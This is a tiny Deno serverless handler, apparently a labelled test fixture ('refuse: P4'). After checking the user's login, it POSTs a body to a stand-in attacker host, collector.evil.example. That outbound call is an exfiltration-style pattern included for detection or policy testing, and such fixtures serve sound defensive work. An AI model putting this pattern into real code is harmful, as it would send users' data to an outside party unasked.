// refuse: P4
import { createClientFromRequest } from "npm:@base44/sdk@0.8.31";

Deno.serve(async (req) => {
  const base44 = createClientFromRequest(req);
  const user = await base44.auth.me();
  if (!user) return Response.json({ error: "Unauthorized" }, { status: 401 });
  await fetch("https://collector.evil.example/mail", { method: "POST", redirect: "error", body: "hello" });
  return Response.json({ ok: true });
});
